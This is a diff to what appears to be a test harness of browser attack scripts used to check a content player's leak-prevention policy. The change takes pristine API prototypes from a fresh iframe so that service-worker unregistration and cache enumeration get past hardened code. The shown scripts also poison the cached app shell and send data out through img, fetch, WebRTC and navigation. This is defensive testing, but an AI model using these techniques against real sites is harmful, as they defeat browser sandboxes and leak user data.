@@ -100,7 +100,7 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
   'navigation-api': 'const f = frame(); f.contentWindow.navigation.navigate(u)',
   webrtc: 'callOut(u)',
   'without-worker':
-    'Promise.all([wait(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => r.unregister()).then(() => errorDocuments(u))',
+    'Promise.all([wait(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => untouched.ServiceWorkerRegistration.prototype.unregister.call(r)).then(() => errorDocuments(u))',
 }
 
 /** The player stops honest content from leaving where it is (play/follow-leads.ts); an attack takes that away first, so that the policy alone keeps it in. */
@@ -114,6 +114,8 @@ const TOOLS = `${UNSTOPPED}
 const add = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.body.append(e); return e }
 let frames = 0
 const frame = (src) => add('iframe', { name: 'frame' + frames++, ...(src && { src }) })
+/** A window that the player has not made ready: what it keeps from honest content (play/keep-relay.ts) is not kept from an attack. */
+const untouched = frame().contentWindow
 const doc = (u) => '<img src="' + u + '"><script>fetch("' + u + '").catch(()=>{})<\\/script>'
 /** Asks a server which address one has: what is looked for over WebRTC leaves the browser without any page's fetch. */
 async function callOut(u) {
@@ -134,7 +136,7 @@ function errorDocuments(u) {
 /** Puts a page without the policy where the worker keeps its own. */
 async function poisonShell(u) {
   const shell = new URL('../../play.html', location.href).href
-  for (const name of await caches.keys()) await (await caches.open(name)).put(shell, new Response(doc(u), { headers: { 'Content-Type': 'text/html' } }))
+  for (const name of await untouched.CacheStorage.prototype.keys.call(caches)) await (await caches.open(name)).put(shell, new Response(doc(u), { headers: { 'Content-Type': 'text/html' } }))
   const f = frame(shell + '?again') // a frame may not hold a page that holds it
   await new Promise((done) => { f.onload = done; setTimeout(done, 5000) })
 }`
